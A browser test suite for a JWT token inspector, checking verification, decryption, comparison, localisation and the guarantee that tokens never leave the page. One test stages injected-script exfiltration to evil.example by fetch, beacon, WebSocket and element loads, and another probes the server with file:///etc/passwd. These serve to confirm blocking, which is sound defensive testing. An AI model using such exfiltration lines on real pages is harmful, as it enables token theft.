// The token inspector: what it can do, and the promise that no script of ours sends a token anywhere (S27).
import { execFileSync, spawnSync } from 'node:child_process';
import { createRequire } from 'node:module';
import { readFileSync, writeFileSync, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import * as jose from 'jose';
import { expectAccessible } from '../support/accessibility.js';
import { expect, test } from '../support/fixtures.js';
import {
  ISSUER, claims, encryptedTokens, pieces, playIssuer, signedTokens, tokensOfEachKind,
} from '../support/tokens.js';

const binary = () => process.env.PASSERELLE_BINARY ?? new URL('../../target/debug/passerelle', import.meta.url).pathname;

const verdict = (page) => page.locator('.verdict');
const paste = (page, text) => page.locator('#token').fill(text);
const open = (page, name) => page.getByRole('tab', { name, exact: false }).click();

async function withKey(page, key) {
  await open(page, 'Keys');
  await page.locator('#key-text').fill(typeof key === 'string' ? key : JSON.stringify(key));
}

/** Everything that leaves the page or stays in the browser, written down. */
async function watch(page) {
  const seen = [];
  page.context().on('request', (request) => {
    seen.push({ url: request.url(), text: `${request.method()} ${request.url()} ${request.postData() ?? ''} ${JSON.stringify(request.headers())}` });
  });
  page.on('websocket', (socket) => seen.push({ url: socket.url(), text: socket.url() }));
  await page.addInitScript(() => {
    globalThis.__stored = [];
    const note = (what, ...values) => globalThis.__stored.push(`${what} ${values.map(String).join(' ')}`);
    const set = Storage.prototype.setItem;
    Storage.prototype.setItem = function (...values) {
      note('storage', ...values);
      return set.apply(this, values);
    };
    const cookie = Object.getOwnPropertyDescriptor(Document.prototype, 'cookie');
    Object.defineProperty(Document.prototype, 'cookie', {
      ...cookie,
      set(value) {
        note('cookie', value);
        cookie.set.call(this, value);
      },
    });
    for (const name of ['open', 'deleteDatabase']) {
      const original = IDBFactory.prototype[name];
      IDBFactory.prototype[name] = function (...values) {
        note('indexeddb', ...values);
        return original.apply(this, values);
      };
    }
    for (const name of ['pushState', 'replaceState']) {
      const original = History.prototype[name];
      History.prototype[name] = function (...values) {
        note('history', JSON.stringify(values));
        return original.apply(this, values);
      };
    }
    const beacon = Navigator.prototype.sendBeacon;
    Navigator.prototype.sendBeacon = function (...values) {
      note('beacon', ...values);
      return beacon.apply(this, values);
    };
  });
  return seen;
}

async function stored(page) {
  const state = await page.evaluate(() => ({
    noted: globalThis.__stored,
    local: JSON.stringify({ ...localStorage }),
    session: JSON.stringify({ ...sessionStorage }),
    cookie: document.cookie,
    name: window.name,
    address: location.href,
    history: JSON.stringify(history.state),
  }));
  return JSON.stringify(state);
}

function expectNothingOf(token, text, where) {
  for (const piece of pieces(token)) expect(text.includes(piece), `a piece of the token in ${where}`).toBe(false);
}

// The server of a test run has the quick build of the page. `cargo xtask size` leaves that of a release, which counts,
// in target/site-work/wasm-release/inspector.
const release = process.env.PASSERELLE_RELEASE_INSPECTOR;
test.beforeEach(async ({ page }) => {
  if (!release) return;
  for (const [ending, file, contentType] of [['js', 'inspector.js', 'text/javascript'], ['wasm', 'inspector_bg.wasm', 'application/wasm']]) {
    await page.route(new RegExp(`/assets/inspector\\.[0-9a-f]+\\.${ending}$`), (route) => route.fulfill({ contentType, body: readFileSync(join(release, file)) }));
  }
});

test.describe('the promise', () => {
  test.use({ serve: { args: ['--log', 'trace'] } });

  test('s27 no request and no storage holds any part of a token, whatever kind comes whichever way', async ({ page, passerelle, trouble }) => {
    test.slow();
    trouble.expect(/issuer\.example/);
    const seen = await watch(page);
    await playIssuer(page, []);
    const inspect = `${passerelle.url}/inspect`;
    const ways = {
      paste: async (token) => {
        await page.goto(inspect);
        await paste(page, token);
      },
      file: async (token) => {
        await page.goto(inspect);
        await page.locator('#file').setInputFiles({ name: 'token.txt', mimeType: 'text/plain', buffer: Buffer.from(token) });
      },
      fragment: async (token) => {
        await page.goto('about:blank');
        await page.goto(`${inspect}#id_token=${token}&state=s`);
      },
      query: async (token) => page.goto(`${inspect}?id_token=${token}&state=s`),
      form_post: async (token) => {
        await page.goto('about:blank');
        await page.setContent(`<form method="post" action="${inspect}"><input name="id_token" value="${token}"></form>`);
        await page.evaluate(() => document.forms[0].submit());
        await page.waitForURL(inspect);
      },
    };
    for (const { kind, token, key } of await tokensOfEachKind()) {
      for (const [way, arrive] of Object.entries(ways)) {
        const from = seen.length;
        await arrive(token);
        await expect(page.locator('#recognised'), `${kind} by ${way}`).toHaveText(kind);
        if (key) await withKey(page, key);
        for (const tab of ['Claims', 'Checks', 'Compare', 'Edit', 'Take along']) await open(page, tab);
        expectNothingOf(token, await stored(page), `storage, ${way}`);
        // What a form or a query brings, the browser sent by itself before any script ran.
        const carried = (entry) => new URL(entry.url).pathname === '/inspect' && (way === 'query' || way === 'form_post');
        for (const entry of seen.slice(from)) {
          if (!carried(entry)) expectNothingOf(token, entry.text, `${entry.url}, ${way}`);
        }
        expect(page.url(), 'the address is wiped').toBe(inspect);
        expectNothingOf(token, passerelle.output, `the log, ${way}`);
      }
    }
  });

  test('s27 an injected script reaches nobody', async ({ page, passerelle, trouble }) => {
    trouble.expect(/Content Security Policy|violates|Refused|evil\.example|ERR_BLOCKED_BY_CSP/);
    const reached = [];
    await page.context().route('https://evil.example/**', (route) => {
      reached.push(route.request().url());
      return route.fulfill({ headers: { 'access-control-allow-origin': '*' }, body: 'x' });
    });
    await page.goto(`${passerelle.url}/inspect`);
    await paste(page, (await tokensOfEachKind())[0].token);
    await expect(page.locator('#recognised')).toBeVisible();
    const refused = await page.evaluate(async (own) => {
      const violations = [];
      document.addEventListener('securitypolicyviolation', (event) => violations.push(event.effectiveDirective));
      const wait = () => new Promise((resolve) => setTimeout(resolve, 150));
      const attempt = async (act) => {
        const before = violations.length;
        try { await act(); } catch { /* a refusal may throw */ }
        await wait();
        return violations.slice(before).join(' ');
      };
      const element = (name, attributes) => () => {
        const made = Object.assign(document.createElement(name), attributes);
        document.body.append(made);
      };
      const out = 'https://evil.example/?token=stolen';
      return {
        fetch: await attempt(() => fetch(out)),
        ownFetch: await attempt(() => fetch(`${own}/inspect/keys?token=stolen`)),
        ownRoot: await attempt(() => fetch(`${own}/?token=stolen`)),
        beacon: await attempt(() => navigator.sendBeacon(out, 'stolen')),
        socket: await attempt(() => new WebSocket('wss://evil.example/')),
        image: await attempt(element('img', { src: out })),
        frame: await attempt(element('iframe', { src: out })),
        style: await attempt(element('link', { rel: 'stylesheet', href: out })),
        script: await attempt(element('script', { src: out })),
        object: await attempt(element('object', { data: out })),
        form: await attempt(() => {
          const form = Object.assign(document.createElement('form'), { action: out, method: 'post' });
          document.body.append(form);
          form.submit();
        }),
        base: await attempt(element('base', { href: 'https://evil.example/' })),
      };
    }, passerelle.url);
    for (const [name, directive] of Object.entries(refused)) expect(directive, name).not.toBe('');
    expect(reached).toEqual([]);
  });

  test('s27 key document and files answer 400 to any query, and write nothing of it', async ({ page, passerelle, request }) => {
    const canary = 'canary-of-a-token-in-a-query';
    await page.goto(`${passerelle.url}/inspect`);
    const found = await page.waitForFunction(() => performance.getEntriesByType('resource').map(({ name }) => name).find((name) => name.endsWith('.wasm')));
    const wasm = await found.jsonValue();
    for (const url of [`${passerelle.url}/inspect/keys`, wasm]) {
      expect((await request.get(url)).status()).toBe(200);
      expect((await request.get(`${url}?${canary}`)).status()).toBe(400);
      expect((await request.get(`${url}?t=${canary}`)).status()).toBe(400);
    }
    expect((await request.post(`${passerelle.url}/inspect/keys?${canary}`, { data: 'https://a.example/' })).status()).toBe(400);
    // The server fetches from plain addresses only, and never from a loopback one.
    for (const url of ['http://a.example/', `https://a.example/?t=${canary}`, 'https://a.example/eyJhbGciOiJub25lIn0', 'file:///etc/passwd']) {
      expect((await request.post(`${passerelle.url}/inspect/keys`, { data: url, headers: { 'content-type': 'text/plain' } })).status()).toBe(400);
    }
    expect(passerelle.output).not.toContain(canary);
  });

  test('s27 the key document takes no address that could carry a token', async ({ page, passerelle }) => {
    const token = (await tokensOfEachKind())[0].token;
    await page.goto(`${passerelle.url}/inspect`);
    for (const url of [`https://evil.example/${token}`, `https://evil.example/?t=${token}`, 'http://evil.example/', `https://u:p@evil.example/`]) {
      await paste(page, '');
      await open(page, 'Keys');
      await page.locator('#key-address').fill(url);
      await page.getByRole('button', { name: 'Use this address' }).click();
      const frame = page.frameLocator('.key-frame');
      await expect(frame.getByText('This is no address that keys are fetched from:')).toBeVisible();
      await expect(frame.getByRole('button', { name: 'Fetch the keys' })).toBeHidden();
    }
  });
});

test.describe('what it does', () => {
  test('every algorithm that jose signs with is verified, and a changed token is not', async ({ page, passerelle, trouble }) => {
    test.slow();
    await page.goto(`${passerelle.url}/inspect`);
    for (const { alg, token, key } of await signedTokens()) {
      await paste(page, token);
      await withKey(page, key);
      await expect(verdict(page), alg).toHaveText(/^Valid for testapp1 until .* signature checked with key /);
      const [header, payload, signature] = token.split('.');
      const other = (signature[0] === 'A' ? 'B' : 'A') + signature.slice(1);
      await paste(page, `${header}.${payload}.${other}`);
      await expect(verdict(page), `${alg}, changed`).toHaveText(/^Do not trust this token\./);
    }
  });

  test('every encryption of jose that browsers know is decrypted', async ({ page, passerelle }) => {
    test.slow();
    await page.goto(`${passerelle.url}/inspect`);
    for (const { alg, enc, token, key } of await encryptedTokens()) {
      await paste(page, token);
      await withKey(page, key);
      await expect(verdict(page), `${alg} ${enc}`).toHaveText(/^Decrypted with /);
      await open(page, 'Decoded token');
      await expect(page.locator('#inside')).toContainText('canary-');
    }
  });

  test('keys of another issuer come after a click that shows the address', async ({ page, passerelle }) => {
    const { privateKey, publicKey } = await jose.generateKeyPair('RS256');
    const asked = await playIssuer(page, [{ ...(await jose.exportJWK(publicKey)), kid: 'k1' }]);
    const token = await new jose.SignJWT(claims()).setProtectedHeader({ alg: 'RS256', kid: 'k1' }).sign(privateKey);
    await page.goto(`${passerelle.url}/inspect#id_token=${token}`);
    await expect(verdict(page)).toContainText('the keys are at issuer.example');
    const frame = page.frameLocator('.key-frame');
    await expect(frame.locator('#address')).toHaveText(`${ISSUER}/.well-known/openid-configuration`);
    expect(asked, 'nothing is asked without a click').toEqual([]);
    await frame.getByRole('button', { name: 'Fetch the keys' }).click();
    await expect(verdict(page)).toHaveText(/^Valid for testapp1 .* signature checked with key k1\.$/);
    expect(asked).toEqual([`${ISSUER}/.well-known/openid-configuration`, `${ISSUER}/keys`]);
    await open(page, 'Keys');
    await expect(page.locator('#key-outcome')).toContainText('Signed with key k1.');
    await expect(page.getByText('It has the kid that the token names')).toBeVisible();
  });

  test('an issuer that does not answer browsers is asked through the server only by choice', async ({ page, passerelle, trouble }) => {
    trouble.expect(/CORS|ERR_FAILED|issuer\.example|502|Failed to load/);
    const asked = await playIssuer(page, [], { cors: false });
    const [{ token }] = await tokensOfEachKind();
    const posted = [];
    page.context().on('request', (request) => {
      if (request.method() === 'POST') posted.push([request.url(), request.postData()]);
    });
    await page.goto(`${passerelle.url}/inspect#id_token=${token}`);
    const frame = page.frameLocator('.key-frame');
    await frame.getByRole('button', { name: 'Fetch the keys' }).click();
    const byServer = frame.getByRole('button', { name: 'Let this server fetch them' });
    await expect(byServer).toBeVisible();
    expect(posted).toEqual([]);
    await byServer.click();
    await expect.poll(() => posted.length).toBe(1);
    expect(posted[0]).toEqual([`${passerelle.url}/inspect/keys`, `${ISSUER}/.well-known/openid-configuration`]);
  });

  test('an authorization response is explained, and what came along is checked', async ({ page, passerelle }) => {
    const token = await new jose.SignJWT(claims({ c_hash: 'wrong' })).setProtectedHeader({ alg: 'HS256' }).sign(new Uint8Array(32));
    await page.goto(`${passerelle.url}/inspect#code=the-code&state=xyz&iss=https%3A%2F%2Fissuer.example&id_token=${token}`);
    await expect(page.getByText('What the application sent along; it must be the same')).toBeVisible();
    await expect(page.getByText('Who answers (RFC 9207)')).toBeVisible();
    await open(page, 'Checks');
    await expect(page.locator('[data-code=other_c_hash]')).toBeVisible();
    await page.goto('about:blank');
    await page.goto(`${passerelle.url}/inspect?error=access_denied&error_description=AADB2C90091&state=1`);
    await expect(page.getByRole('alert').filter({ hasText: 'cancelled' })).toBeVisible();
    await expect(page.getByText('so this server received it')).toBeVisible();
    expect(page.url()).toBe(`${passerelle.url}/inspect`);
  });

  test('expectations, a moment by the slider, and a link without the token', async ({ page, passerelle }) => {
    const [{ token }] = await tokensOfEachKind();
    await page.goto(`${passerelle.url}/inspect#view=checks&expect_aud=other&lang=en`);
    await paste(page, token);
    await expect(page.locator('[data-code=other_audience]')).toBeVisible();
    await page.locator('#expect-audience').fill('testapp1');
    await expect(page.locator('[data-code=audience]')).toBeVisible();
    await page.locator('#moment').fill('120');
    await expect(page.locator('[data-code=expired]')).toBeVisible();
    await page.getByRole('button', { name: 'Now' }).click();
    await expect(page.locator('[data-code=not_expired]')).toBeVisible();
    await open(page, 'Take along');
    const taken = await page.locator('#take-along').innerText();
    expect(taken).toContain('#view=take-along&lang=en&expect_aud=testapp1');
    const redacted = await page.locator('#take-along pre').first().innerText();
    expectNothingOf(token, redacted, 'the redacted copy');
    expect(JSON.parse(redacted).claims.sub).toBe('[removed]');
    expect(JSON.parse(redacted).claims.iss).toBe(ISSUER);
  });

  test('two tokens are compared, and a changed one is signed again, marked', async ({ page, passerelle }) => {
    const sign = (more) => new jose.SignJWT(claims(more)).setProtectedHeader({ alg: 'HS256' }).sign(new Uint8Array(32));
    await page.goto(`${passerelle.url}/inspect`);
    await paste(page, await sign({ aud: 'a', extra: 1 }));
    await open(page, 'Compare');
    await page.locator('#other-token').fill(await sign({ aud: 'b' }));
    await expect(page.locator('tr[data-difference=changed]', { hasText: 'aud' })).toBeVisible();
    await expect(page.locator('tr[data-difference=first]', { hasText: 'extra' })).toBeVisible();
    for (const alg of ['ES256', 'RS256', 'PS256', 'EdDSA', 'HS256']) {
      await open(page, 'Edit');
      await page.locator('#edit-claims').fill(JSON.stringify(claims({ admin: true })));
      await page.locator('#edit-algorithm').selectOption(alg);
      await page.getByRole('button', { name: 'Make a key and sign' }).click();
      await expect(page.locator('#made pre')).toHaveCount(2);
      const [token, key] = await page.locator('#made pre').allInnerTexts();
      expect(jose.decodeProtectedHeader(token)).toMatchObject({ alg, made_by: 'a token inspector, for tests' });
      const { payload } = await jose.jwtVerify(token, await jose.importJWK(JSON.parse(key), alg));
      expect(payload.admin).toBe(true);
      await page.getByRole('button', { name: 'Inspect it with this key' }).click();
      await expect(verdict(page), alg).toHaveText(/^Valid for testapp1 /);
    }
  });

  test('a nested token, a disclosure and a certificate', async ({ page, passerelle }) => {
    const inner = await new jose.SignJWT(claims()).setProtectedHeader({ alg: 'HS256' }).sign(new Uint8Array(32));
    const secret = new Uint8Array(32).fill(9);
    const nested = await new jose.CompactEncrypt(new TextEncoder().encode(inner))
      .setProtectedHeader({ alg: 'dir', enc: 'A256GCM', cty: 'JWT' })
      .encrypt(secret);
    await page.goto(`${passerelle.url}/inspect`);
    await paste(page, nested);
    await withKey(page, { kty: 'oct', k: jose.base64url.encode(secret) });
    await open(page, 'Decoded token');
    await page.getByRole('button', { name: 'Inspect the token inside' }).click();
    await expect(page.locator('#recognised')).toHaveText('ID token');
    await page.getByRole('button', { name: 'Back to the token around it' }).click();
    await expect(page.locator('#recognised')).toHaveText('Encrypted token');
    const { token } = (await tokensOfEachKind()).find(({ kind }) => kind.includes('disclosure'));
    await paste(page, token);
    await expect(page.locator('#disclosures')).toContainText('given_name');
    await expect(page.locator('#disclosures .field-error')).toHaveCount(0);
  });

  test('an example shows what the page does, and its key goes when another token comes', async ({ page, passerelle }) => {
    await page.goto(`${passerelle.url}/inspect`);
    await page.getByRole('button', { name: 'Show an example' }).click();
    await expect(verdict(page)).toHaveText(/^Valid for 33333333-.* signature checked with key inspector-test-key\.$/);
    await expect(page.getByText('It was made in this page, for tests.')).toBeVisible();
    await expect(page.getByRole('button', { name: 'Show an example' })).toHaveCount(0);
    const [{ token }] = await tokensOfEachKind();
    await paste(page, token);
    await open(page, 'Keys');
    await expect(page.locator('#key-text')).toHaveValue('');
    await expect(verdict(page)).toContainText('the keys are at issuer.example');
  });

  test('files and texts are dropped anywhere on the page', async ({ page, passerelle }) => {
    const [{ token: one }, { token: other }] = await tokensOfEachKind();
    const drop = (files, text) => page.evaluate(([files, text]) => {
      const data = new DataTransfer();
      for (const [index, content] of files.entries()) data.items.add(new File([content], `${index}.txt`, { type: 'text/plain' }));
      if (text) data.setData('text/plain', text);
      for (const name of ['dragover', 'drop']) {
        document.querySelector('h1').dispatchEvent(new DragEvent(name, { dataTransfer: data, bubbles: true, cancelable: true }));
      }
    }, [files, text]);
    await page.goto(`${passerelle.url}/inspect`);
    await expect(page.locator('#token')).toBeVisible();
    await drop([one]);
    await expect(page.locator('#recognised')).toHaveText('ID token');
    await drop([], other);
    await expect(page.locator('#recognised')).toHaveText('Access token');
    await drop([one, other]);
    await expect(page.locator('#many-said')).toHaveText(/^2 tokens, read in/);
  });

  test('a DPoP proof is checked with the key that it brings, and called nothing more', async ({ page, passerelle }) => {
    const vectors = JSON.parse(readFileSync(new URL('../../crates/token/tests/vectors/rfc-tokens.json', import.meta.url), 'utf8'));
    const { resource_request: proof, access_token: token } = vectors.rfc9449;
    await page.goto(`${passerelle.url}/inspect`);
    await paste(page, proof);
    await expect(verdict(page)).toHaveText(/^Whoever made it holds the key that it brings\./);
    await open(page, 'Checks');
    await page.locator('#expect-access-token').fill(token);
    await expect(page.locator('[data-code=ath]')).toBeVisible();
    await page.locator('#expect-access-token').fill('another');
    await expect(page.locator('[data-code=other_ath]')).toBeVisible();
  });

  test('pointing at a claim marks its characters, and the other way round', async ({ page, passerelle }) => {
    await page.goto(`${passerelle.url}/inspect`);
    await paste(page, (await tokensOfEachKind())[0].token);
    await open(page, 'Claims');
    await page.locator('table.claims tr', { has: page.locator('code', { hasText: /^aud$/ }) }).first().hover();
    await expect(page.locator('.claim-bytes[data-pointed=true]')).toHaveAttribute('title', 'aud');
    await page.locator('.claim-bytes[title=sub]').hover();
    await expect(page.locator('table.claims tr[data-pointed=true]')).toContainText('sub');
  });

  for (const [language, words] of [['de', 'Aussteller'], ['fr', 'Émetteur'], ['it', 'Emittente']]) {
    test.describe(`in ${language}`, () => {
      test.use({ locale: `${language}-CH` });
      test('the page speaks it', async ({ page, passerelle }) => {
        await page.goto(`${passerelle.url}/inspect#view=claims`);
        await paste(page, (await tokensOfEachKind())[0].token);
        await expect(page.locator('html')).toHaveAttribute('lang', language);
        await expect(page.locator('table.claims').first()).toContainText(words);
        await expectAccessible(page);
      });
    });
  }

  test('it works without a network once it is loaded, by keyboard, on a phone', async ({ page, passerelle, context }) => {
    await page.setViewportSize({ width: 360, height: 740 });
    await page.goto(`${passerelle.url}/inspect`);
    await expect(page.locator('#token')).toBeVisible();
    await context.setOffline(true);
    const { privateKey, publicKey } = await jose.generateKeyPair('ES256');
    const token = await new jose.SignJWT(claims({ iss: 'urn:nobody' })).setProtectedHeader({ alg: 'ES256' }).sign(privateKey);
    await paste(page, token);
    await page.locator('#tab-token').focus();
    for (const name of ['Claims', 'Checks', 'Keys']) {
      await page.keyboard.press('ArrowRight');
      await expect(page.getByRole('tab', { selected: true })).toContainText(name);
    }
    await page.locator('#key-text').fill(JSON.stringify(await jose.exportJWK(publicKey)));
    await expect(verdict(page)).toHaveText(/^Valid for testapp1 /);
    for (const id of ['token', 'claims', 'checks', 'keys', 'compare', 'edit', 'take-along']) {
      await page.locator(`#tab-${id}`).click();
      const wide = await page.evaluate(() => document.documentElement.scrollWidth - innerWidth);
      expect(wide, `${id} at 360 px`).toBeLessThanOrEqual(0);
      await expectAccessible(page);
    }
  });
});

test.describe('on a terminal', () => {
  const run = (args, input) => {
    const { stdout, status } = spawnSync(binary(), ['token', 'inspect', '-', '--format', 'json', ...args], { input, encoding: 'utf8' });
    return { status, report: JSON.parse(stdout) };
  };

  test('the same answers for what jose made', async () => {
    const folder = mkdtempSync(join(tmpdir(), 'inspect-'));
    const file = join(folder, 'key.json');
    try {
      for (const { alg, token, key } of await signedTokens()) {
        writeFileSync(file, JSON.stringify(key));
        const { status, report } = run(['--keys', file, '--audience', 'testapp1'], token);
        expect([alg, status, report.kind, report.signatures[0].outcome]).toEqual([alg, 0, 'ID token', 'valid']);
        expect(run(['--keys', file, '--audience', 'other'], token).status).toBe(1);
        expect(run(['--keys', file], token.slice(0, -8)).status).toBe(1);
      }
      for (const { alg, enc, token, key } of await encryptedTokens()) {
        writeFileSync(file, JSON.stringify(key));
        const { report } = run(['--keys', file], token);
        expect(report.claims?.sub, `${alg} ${enc}`).toMatch(/^canary-/);
      }
    } finally {
      rmSync(folder, { recursive: true });
    }
  });

  test('the same answers for what joserfc makes', async () => {
    const script = `
import json
from joserfc import jwt
from joserfc.jwk import RSAKey, ECKey, OKPKey, OctKey
made = []
for alg in ['RS256','RS384','RS512','PS256','PS384','PS512','ES256','ES384','ES512','EdDSA','HS256','HS384','HS512']:
    if alg[:2] in ('RS', 'PS'): key = RSAKey.generate_key(2048)
    elif alg[:2] == 'ES': key = ECKey.generate_key({'ES256':'P-256','ES384':'P-384','ES512':'P-521'}[alg])
    elif alg == 'EdDSA': key = OKPKey.generate_key('Ed25519')
    else: key = OctKey.generate_key(int(alg[2:]))
    members = key.as_dict(private=alg[:2] == 'HS')
    token = jwt.encode({'alg': alg}, {'iss': 'i', 'sub': 'joserfc', 'aud': 'a', 'exp': 4102444800, 'iat': 1700000000}, key, algorithms=[alg])
    made.append({'alg': alg, 'token': token, 'key': {k: members[k] for k in ('kty','n','e','crv','x','y','k') if k in members}})
print(json.dumps(made))
`;
    const python = spawnSync(process.env.PASSERELLE_PYTHON ?? 'python3', ['-W', 'ignore', '-c', script], { encoding: 'utf8' });
    if (python.status !== 0) {
      expect(process.env.CI, `joserfc does not run: ${python.stderr}`).not.toBe('true');
      // The committed tokens of joserfc are checked by `cargo test -p token` in any case.
      console.warn('SKIPPED: the Python package joserfc is missing; `cargo xtask setup` brings it. Its live tokens are not compared.');
      test.skip(true, 'joserfc is not installed');
    }
    const folder = mkdtempSync(join(tmpdir(), 'inspect-'));
    const file = join(folder, 'key.json');
    try {
      for (const { alg, token, key } of JSON.parse(python.stdout)) {
        writeFileSync(file, JSON.stringify(key));
        const { report } = run(['--keys', file], token);
        expect([alg, report.signatures[0].outcome, report.claims.sub]).toEqual([alg, 'valid', 'joserfc']);
      }
    } finally {
      rmSync(folder, { recursive: true });
    }
  });
});

/**
 * jose in the same page, at an address that the page's policy lets scripts come from. Ours is timed where it works, by the
 * spans that the page writes (`performance.measure`); jose by a clock around its calls.
 */
async function withJose(page, passerelle) {
  const folder = dirname(createRequire(import.meta.url).resolve('jose'));
  await page.route(`${passerelle.url}/jose/**`, (route) => {
    const path = new URL(route.request().url()).pathname.slice('/jose/'.length);
    return route.fulfill({ contentType: 'text/javascript', body: readFileSync(join(folder, path), 'utf8') });
  });
}

const median = (numbers) => numbers.toSorted((one, other) => one - other)[Math.floor(numbers.length / 2)];
const mean = (numbers) => numbers.reduce((sum, number) => sum + number, 0) / numbers.length;

/** A figure of ours beside jose's, for the log. */
function tell(what, ours, theirs, unit) {
  console.log(`figure: ${what}: ${ours.toFixed(3)} ${unit}, jose ${theirs.toFixed(3)} ${unit}, ratio ${(ours / theirs).toFixed(2)}`);
}

test.describe('figures', () => {
  test('how soon the page can be used', async ({ page, passerelle }) => {
    const times = [];
    for (let round = 0; round < 5; round += 1) {
      await page.goto('about:blank');
      await page.goto(`${passerelle.url}/inspect`);
      await expect(page.locator('#token')).toBeVisible();
      times.push(await page.evaluate(() => performance.getEntriesByName('inspector: ready')[0].startTime));
    }
    const bytes = await page.evaluate(() => performance.getEntriesByType('resource')
      .filter(({ name }) => name.endsWith('.wasm')).map(({ encodedBodySize, decodedBodySize }) => [encodedBodySize, decodedBodySize])[0]);
    console.log(`figure: interactive after ${median(times).toFixed(0)} ms (median of 5); wasm ${bytes[1]} bytes, ${bytes[0]} on the wire`);
    expect(median(times)).toBeLessThan(3000);
  });

  test('one token is decoded, and RS256 verified, beside jose in the same page', async ({ page, passerelle }) => {
    test.slow();
    await withJose(page, passerelle);
    const { privateKey, publicKey } = await jose.generateKeyPair('RS256');
    const key = { ...(await jose.exportJWK(publicKey)), kid: 'k1', alg: 'RS256' };
    const tokens = [];
    for (let index = 0; index < 200; index += 1) {
      tokens.push(await new jose.SignJWT(claims({ name: `Person ${index}` })).setProtectedHeader({ alg: 'RS256', kid: 'k1' }).sign(privateKey));
    }
    await page.goto(`${passerelle.url}/inspect`);
    await withKey(page, key);
    const figures = await page.evaluate(async ([tokens, jwk]) => {
      const field = document.querySelector('#token');
      const spans = (name) => performance.getEntriesByName(name, 'measure').map(({ duration }) => duration);
      const until = async (count) => {
        while (spans('inspector: verify').length < count) await new Promise((resolve) => setTimeout(resolve, 1));
      };
      performance.clearMeasures();
      for (const [index, token] of tokens.entries()) {
        field.value = token;
        field.dispatchEvent(new Event('input', { bubbles: true }));
        await until(index + 1);
      }
      const verdict = document.querySelector('.verdict').textContent;
      const ours = { read: spans('inspector: read'), verify: spans('inspector: verify') };
      const { decodeJwt, decodeProtectedHeader, importJWK, jwtVerify } = await import('/jose/index.js');
      const timed = async (act) => {
        const begun = performance.now();
        await act();
        return performance.now() - begun;
      };
      const theirs = { read: [], verify: [] };
      for (const token of tokens) {
        theirs.read.push(await timed(() => [decodeProtectedHeader(token), decodeJwt(token)]));
        theirs.verify.push(await timed(async () => jwtVerify(token, await importJWK(jwk, 'RS256'))));
      }
      return { verdict, ours, theirs };
    }, [tokens, key]);
    expect(figures.verdict).toMatch(/^Valid for testapp1/);
    expect(figures.ours.read.length).toBe(tokens.length);
    // Means: a browser's clock is coarse, and right on average.
    tell('decode one token', mean(figures.ours.read), mean(figures.theirs.read), 'ms');
    tell('verify RS256, key taken in', mean(figures.ours.verify), mean(figures.theirs.verify), 'ms');
  });

  test('ten thousand tokens of a file are listed while the page stays awake', async ({ page, passerelle }) => {
    test.slow();
    const { privateKey } = await jose.generateKeyPair('RS256');
    const first = await new jose.SignJWT(claims({ name: 'x'.repeat(200) })).setProtectedHeader({ alg: 'RS256', kid: 'k1' }).sign(privateKey);
    const [header, , signature] = first.split('.');
    const lines = Array.from({ length: 10_000 }, (_, index) => {
      const payload = jose.base64url.encode(JSON.stringify(claims({ sub: `person-${index}`, name: 'x'.repeat(200) })));
      return `${header}.${payload}.${signature}`;
    });
    await withJose(page, passerelle);
    await page.addInitScript(() => {
      globalThis.__long = [];
      new PerformanceObserver((list) => globalThis.__long.push(...list.getEntries().map(({ startTime, duration }) => [startTime, duration])))
        .observe({ type: 'longtask' });
      // From the moment at which the file is chosen until all of it is listed.
      addEventListener('change', () => {
        globalThis.__chosen = performance.now();
        new MutationObserver((_, observer) => {
          if (!/^10000 tokens, read/.test(document.querySelector('#many-said')?.textContent ?? '')) return;
          globalThis.__listed ??= performance.now();
          observer.disconnect();
        }).observe(document.body, { subtree: true, childList: true, characterData: true });
      }, true);
    });
    const rounds = [];
    for (let round = 0; round < 3; round += 1) {
      await page.goto('about:blank');
      await page.goto(`${passerelle.url}/inspect`);
      await expect(page.locator('#token')).toBeVisible();
      await page.waitForTimeout(300);
      await page.evaluate(() => (globalThis.__long.length = 0));
      await page.locator('#file').setInputFiles({ name: 'tokens.txt', mimeType: 'text/plain', buffer: Buffer.from(lines.join('\n')) });
      await expect(page.locator('#many-said')).toHaveText(/^10000 tokens, read in \d+ ms$/, { timeout: 30_000 });
      rounds.push(await page.evaluate(() => ({
        said: document.querySelector('#many-said').textContent,
        whole: globalThis.__listed - globalThis.__chosen,
        // What hands the file to the page holds it up too, and is the test's.
        long: globalThis.__long.filter(([begun]) => begun >= globalThis.__chosen).map(([, took]) => Math.round(took)),
      })));
    }
    const theirs = await page.evaluate(async (text) => {
      const { decodeJwt, decodeProtectedHeader } = await import('/jose/index.js');
      const begun = performance.now();
      const listed = text.split('\n').map((token) => {
        const [{ alg, kid }, { iss, sub, exp }] = [decodeProtectedHeader(token), decodeJwt(token)];
        return { alg, kid, iss, sub, exp };
      });
      return { milliseconds: performance.now() - begun, count: listed.length };
    }, lines.join('\n'));
    expect(theirs.count).toBe(10_000);
    const ours = Number(/read in (\d+) ms/.exec(rounds[1].said)[1]);
    tell('decode 10,000 tokens of a file', ours, theirs.milliseconds, 'ms');
    for (const { said, whole, long } of rounds) console.log(`figure: ${said}; ${whole.toFixed(0)} ms from the file to the list; tasks over 50 ms: ${JSON.stringify(long)}`);
    await page.locator('#many-filter').fill('person-9999');
    await expect(page.locator('.many tbody tr')).toHaveCount(1);
  });
});
